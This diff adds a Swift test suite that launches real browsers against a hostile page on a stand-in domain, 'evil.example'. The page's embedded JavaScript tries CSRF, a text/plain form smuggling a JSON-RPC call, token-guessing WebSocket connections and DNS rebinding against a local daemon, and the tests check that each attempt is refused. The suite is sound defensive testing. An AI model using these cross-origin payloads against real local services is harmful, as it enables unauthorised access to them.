@@ -1,0 +1,127 @@
+import BridgeProtocol
+import BridgeServer
+import BridgeTesting
+import Foundation
+import TestSupport
+import Testing
+
+/// A page of a site that is nobody's here, in a real browser, tries all doors (docs/security.md).
+@MainActor @Suite(.serialized, .timeLimit(.minutes(2))) struct ForeignSiteTests {
+    /// A name that anybody could have, and that leads to this machine: what DNS rebinding comes to.
+    private static let name = "evil.example"
+
+    /// Tries one after the other, and tells its own site what came of each: `nothing`, or what it got.
+    private static func page(_ daemon: String) -> String {
+        """
+        <!DOCTYPE html><meta charset="utf-8"><title>Evil</title><iframe name="frame"></iframe><script>
+        const daemon = "\(daemon)"
+        const socket = (path, protocols) => new Promise((resolve) => {
+          const socket = new WebSocket(daemon.replace("http", "ws") + path, protocols)
+          socket.onopen = () => resolve("open")
+          socket.onclose = () => resolve("nothing")
+        })
+        const read = async (path, options) => {
+          try {
+            const response = await fetch(daemon + path, options)
+            return response.type == "opaque" ? "nothing" : await response.text()
+          } catch {
+            return "nothing"
+          }
+        }
+        const script = (path) => new Promise((resolve) => {
+          const script = document.createElement("script")
+          script.src = daemon + path
+          script.onload = () => resolve(window.webkit ? "the bridge" : "a script")
+          script.onerror = () => resolve("nothing")
+          document.head.append(script)
+        })
+        const call = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "pages.list" })
+        const beacon = JSON.stringify({ document: "d-1", messages: [] })
+        const form = (path) => new Promise((resolve) => {
+          const form = document.createElement("form")
+          Object.assign(form, { action: daemon + path, method: "post", enctype: "text/plain", target: "frame" })
+          const input = document.createElement("input")
+          Object.assign(input, { name: call.slice(0, -1) + ', "x": "', value: '"}' })
+          form.append(input)
+          document.body.append(form)
+          document.querySelector("iframe").onload = () => resolve("nothing")
+          form.submit()
+        })
+        const frame = (path) => new Promise((resolve) => {
+          const frame = document.createElement("iframe")
+          frame.src = daemon + path
+          frame.onload = () => {
+            try { resolve(frame.contentDocument?.title || "nothing") } catch { resolve("nothing") }
+          }
+          document.body.append(frame)
+        })
+        const attempts = {
+          attach: () => socket("page", "bridge.page.v1"),
+          control: () => socket("control", ["bridge.control.v1", "bridge.token.00000000000000000000000000000000"]),
+          script: () => script("bridge.js"),
+          guess: () => script("bridge.js?token=00000000000000000000000000000000"),
+          rpc: () => read("rpc", { method: "POST", body: call, headers: { "Content-Type": "application/json" } }),
+          blind: () => read("rpc", { method: "POST", body: call, mode: "no-cors" }),
+          traffic: () => read("traffic"),
+          metrics: () => read("metrics"),
+          beacon: () => read("beacon", { method: "POST", body: beacon, mode: "no-cors" }),
+          left: () => navigator.sendBeacon(daemon + "beacon", beacon) && "nothing",
+          form: () => form("rpc"),
+          leave: () => form("beacon"),
+          demo: () => frame("demo/"),
+        }
+        const run = async () => {
+          for (const name in attempts) {
+            const result = await attempts[name]()
+            await fetch("/told?" + new URLSearchParams({ name, result }))
+          }
+          fetch("/told?name=end")
+        }
+        run()
+        </script>
+        """
+    }
+
+    @Test(arguments: [Browser.Engine.chromium, .firefox])
+    func getsNothing(_ engine: Browser.Engine) async throws {
+        try await withServer { server, address in
+            let recorder = Recorder(server)
+            let (told, teller) = AsyncStream<String>.makeStream()
+            let site = try PostingSite(Self.page(address.url.replacing("127.0.0.1", with: "localhost"))) { path in
+                if path.hasPrefix("/told?") { teller.yield(path) }
+            }
+            let browser = try launch(
+                engine, site.url.replacing("127.0.0.1", with: Self.name), localNames: [Self.name])
+            var results: [String] = []
+            for await line in told {
+                if line.contains("name=end") { break }
+                results.append(String(line.dropFirst("/told?name=".count)))
+            }
+            #expect(results.count == 13)
+            #expect(results.allSatisfy { $0.hasSuffix("&result=nothing") }, "\(results)")
+            let refused = recorder.records.filter { record in
+                guard case .problem("originNotAllowed", let text, _, _) = record.event else { return false }
+                return text.contains(Self.name)
+            }
+            // All but the frame, which a policy of the demo's own keeps shut.
+            #expect(refused.count >= 12)
+            #expect(server.pages.isEmpty)
+            browser.close()
+        }
+    }
+
+    /// A name of the attacker's that leads here, so that his page and the daemon are of one origin.
+    @Test(arguments: [Browser.Engine.chromium, .firefox])
+    func isRefused_whereItsNameLeadsHere(_ engine: Browser.Engine) async throws {
+        try await withServer { server, address in
+            let recorder = Recorder(server)
+            let url = "http://\(Self.name):\(address.port)/demo/"
+            let browser = try launch(engine, url, localNames: [Self.name])
+            let problem = await recorder.problem("hostNotAllowed")
+            #expect(problem.text.contains("\(Self.name):\(address.port)"))
+            #expect(problem.hint?.contains("--allow-origin http://\(Self.name)") == true)
+            #expect(server.pages.isEmpty)
+            browser.close()
+        }
+    }
+}
